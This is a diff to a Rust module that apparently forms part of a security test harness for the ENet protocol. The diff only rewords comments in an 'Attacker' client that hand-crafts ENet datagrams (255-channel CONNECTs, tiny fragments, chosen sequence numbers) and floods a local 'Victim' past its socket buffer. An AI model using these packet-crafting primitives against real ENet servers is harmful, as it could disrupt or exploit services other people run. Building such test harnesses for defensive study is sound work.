@@ -1,4 +1,4 @@
-//! A client that speaks just enough ENet to be believed, and what it does with that.
+//! A client that speaks just enough ENet to be connected, and sends commands built by hand.
 
 use std::net::{Ipv4Addr, SocketAddr, UdpSocket};
 use std::thread;
@@ -8,15 +8,15 @@ use enet_codec::{Codec, RangeCoder};
 
 use super::victim::Victim;
 
-/// Datagrams in a row that any victim's socket buffer holds.
+/// The number of consecutive datagrams that every victim's socket buffer can hold.
 const BATCH: usize = 32;
 pub const NO_SLOT: [u8; 2] = [0x8F, 0xFF];
 
-/// A connection made by hand.
+/// An established connection.
 pub struct Attacker {
     socket: UdpSocket,
     victim: SocketAddr,
-    /// Slot and session, without flags.
+    /// The slot and session, without flags.
     pub header: [u8; 2],
     waiting: usize,
 }
@@ -27,7 +27,7 @@ pub fn socket(last: u8) -> UdpSocket {
     socket
 }
 
-/// A CONNECT with 255 channels, with its header.
+/// A datagram with a CONNECT for 255 channels.
 pub fn connect(token: u32) -> Vec<u8> {
     let mut bytes = NO_SLOT.to_vec();
     bytes.extend([0, 0, 0x82, 0xFF, 0, 1, 0, 0, 0xFF, 0xFF]);
@@ -37,7 +37,7 @@ pub fn connect(token: u32) -> Vec<u8> {
     bytes
 }
 
-/// The bytes of a fragment with one byte of data.
+/// A fragment command with one byte of data.
 pub fn fragment(
     kind: u8,
     sequence: u16,
@@ -61,14 +61,14 @@ pub fn empty_reliable(sequence: u16) -> Vec<u8> {
     vec![6, 0, high, low, 0, 0]
 }
 
-/// An empty unreliable packet that comes after reliable number 100.
+/// An empty unreliable packet that follows the reliable packet number 100.
 pub fn empty_unreliable(sequence: u16) -> Vec<u8> {
     let [high, low] = sequence.to_be_bytes();
     vec![7, 0, 0, 100, high, low, 0, 0]
 }
 
 impl Attacker {
-    /// Connects; `None` if nobody answers for a tenth of a second.
+    /// Connects. `None` if the victim does not answer within a tenth of a second.
     pub fn join(victim: &mut Victim, token: u32) -> Option<Self> {
         let socket = socket(1);
         socket
@@ -91,7 +91,7 @@ impl Attacker {
             };
             assert_eq!(commands[0] & 0x0F, 3, "VERIFY_CONNECT");
             let header = [commands[7] << 4 | commands[4], commands[5]];
-            // Header, command, its sequence number twice, and the time it came with.
+            // The header, the command, its sequence number twice, and the sent time to echo.
             let number = [commands[2], commands[3]];
             let parts = [header, [1, 0xFF], number, number, [bytes[2], bytes[3]]];
             let acknowledgement = parts.concat();
@@ -111,7 +111,8 @@ impl Attacker {
         None
     }
 
-    /// Sends a datagram of these commands, and has the victim take in what waits now and then.
+    /// Sends a datagram of these commands. Lets the victim read its socket after every [`BATCH`]
+    /// datagrams.
     pub fn send(&mut self, victim: &mut Victim, header: [u8; 2], commands: &[u8]) -> usize {
         let mut bytes = header.to_vec();
         bytes.extend(commands);
@@ -121,12 +122,12 @@ impl Attacker {
             self.waiting = 0;
             victim.pump();
         }
-        // Answers are of no interest, and must not fill the buffer.
+        // Answers are discarded, so that they do not fill the socket buffer.
         while self.socket.recv(&mut [0; 4096]).is_ok() {}
         bytes.len()
     }
 
-    /// Sends many commands, as many in a datagram as fit. Returns the bytes sent.
+    /// Sends commands, as many in a datagram as fit. Returns the number of bytes sent.
     pub fn send_all(
         &mut self,
         victim: &mut Victim,
